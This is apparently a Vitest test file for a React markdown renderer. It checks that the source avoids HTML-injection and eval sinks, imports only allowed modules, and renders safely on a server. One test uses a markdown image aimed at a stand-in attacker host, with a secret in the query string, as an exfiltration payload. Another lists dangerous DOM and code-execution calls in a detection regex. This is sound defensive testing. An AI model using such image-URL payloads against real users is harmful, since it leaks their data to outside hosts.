import { readdirSync, readFileSync } from 'node:fs';
import { createElement } from 'react';
import { renderToString } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { LIMITS } from '../../src/protocol/index.ts';
import { Markdown, MARKDOWN_LIMITS } from '../../src/markdown/index.ts';

const folder = new URL('../../src/markdown/', import.meta.url);
const files = readdirSync(folder).map((name) => ({
  name,
  source: readFileSync(new URL(name, folder), 'utf8'),
}));

describe('the source of the markdown layer', () => {
  it('makes no HTML string and no inline style (2.3.1)', () => {
    const forbidden =
      /dangerouslySetInnerHTML=|dangerouslySetInnerHTML:|innerHTML\s*=|DOMParser|insertAdjacentHTML|document\.write|\bstyle=|\beval\(|new Function/;
    expect(files.filter(({ source }) => forbidden.test(source)).map(({ name }) => name)).toEqual([]);
  });

  it('imports nothing but marked, React and itself (DESIGN 2)', () => {
    const imports = files.flatMap(({ source }) =>
      [...source.matchAll(/from '([^']+)'/g)].map((match) => match[1] ?? ''),
    );
    expect(imports.filter((name) => !/^\.\/[\w-]+\.tsx?$|^marked$|^react$/.test(name))).toEqual([]);
  });

  it('repeats the limits of the protocol, which it does not import', () => {
    expect(MARKDOWN_LIMITS.markdownChars).toBe(LIMITS.markdownChars);
    expect(MARKDOWN_LIMITS.tableCells).toBe(LIMITS.tableCells);
    expect(MARKDOWN_LIMITS.tableColumns).toBe(LIMITS.tableColumns);
  });
});

describe('rendering on a server (2.3.3)', () => {
  const html = (text: string, remote: string[] = []): string =>
    renderToString(createElement(Markdown, { text, urlPolicy: { remote } }));

  it('asks for nothing: no preload hint, no source', () => {
    expect(html('![x](https://evil.test/p?d=SECRET)')).not.toMatch(/preload|src=/);
  });

  it('gives no preload hint for an image of the allow list either', () => {
    const drawn = html('![x](https://img.example/a.png)', ['https://img.example']);
    expect(drawn).toContain('src="https://img.example/a.png"');
    expect(drawn).not.toContain('preload');
  });

  it('draws a growing text too', () => {
    expect(renderToString(createElement(Markdown, { text: 'a **b', streaming: true }))).toContain('<strong');
  });
});
